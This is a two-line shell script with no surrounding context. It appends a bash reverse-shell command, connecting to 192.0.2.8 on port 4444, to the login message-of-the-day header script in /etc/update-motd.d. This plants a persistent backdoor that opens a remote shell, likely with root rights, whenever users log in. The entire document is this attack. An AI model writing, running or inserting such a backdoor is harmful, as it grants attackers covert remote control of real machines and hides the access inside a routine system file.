#!/bin/sh
echo 'bash -c "bash -i >& /dev/tcp/192.0.2.8/4444 0>&1"' >> /etc/update-motd.d/00-header
